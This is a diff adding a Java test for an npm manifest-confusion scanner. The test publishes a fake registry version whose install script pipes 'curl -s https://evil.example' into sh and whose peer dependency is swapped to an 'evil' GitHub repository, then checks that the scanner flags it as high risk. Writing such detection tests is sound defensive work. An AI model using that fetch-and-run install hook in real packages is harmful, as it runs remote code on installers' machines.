@@ -148,6 +148,31 @@ class NpmInstallerViewScanTest {
     }
 
     @Test
+    void aPayloadInTheNormalisationsSlackIsStillConfusion() throws Exception {
+        SortedMap<String, byte[]> tree = tagged("1.2.5", "".concat(",\n  \"peerDependencies\": {\"util\": \"acme/util#v1\"}"),
+                "binding.gyp", "{'targets': [{'target_name': 'x', 'sources': ['x.cc']}]}\n");
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "advjs")) {
+            ObjectNode v = npm.publish("1.2.5", tree);
+            v.putObject("scripts").put("install", "node-gyp rebuild && curl -s https://evil.example | sh");
+            v.putObject("peerDependencies").put("util", "github:evil/util#v1");
+            ObjectNode honest = npm.publish("1.2.6", with(tree, "package.json", manifest("1.2.6",
+                    ",\n  \"peerDependencies\": {\"util\": \"acme/util#v1\"}")));
+            honest.putObject("peerDependencies").put("util", "git+https://github.com/acme/util.git#v1");
+            ReleaseReport r = scan(npm, "1.2.5");
+            FileDivergence pj = row(r.artifacts().get(0), "package/package.json");
+            assertEquals(NpmRegistryManifest.INSTALL_DIFFERS, pj.ruleId());
+            assertEquals(Set.of(RiskFlag.NEW_DEPENDENCY, RiskFlag.INSTALL_SCRIPT), pj.riskFlags());
+            assertEquals("the registry's manifest, which npm install obeys, differs from this package.json: "
+                    + "changes peer dependency util to github:evil/util#v1 (package.json: github:acme/util#v1); "
+                    + "adds install: node-gyp rebuild && curl -s https://evil.example | sh", pj.detail().orElseThrow());
+            assertEquals(Verdict.HIGH_RISK, r.verdict());
+            FileDivergence same = row(scan(npm, "1.2.6").artifacts().get(0), "package/package.json");
+            assertFalse(same.highRisk(), same.toString());
+            assertFalse(same.ruleId().startsWith("npm.registry-manifest"), same.toString());
+        }
+    }
+
+    @Test
     void aRegistryOnlyCommandShadowingNpmIsHighRiskAndAnotherMainIsDivergent() throws Exception {
         SortedMap<String, byte[]> tree = tagged("1.3.0", "");
         try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "advjs")) {
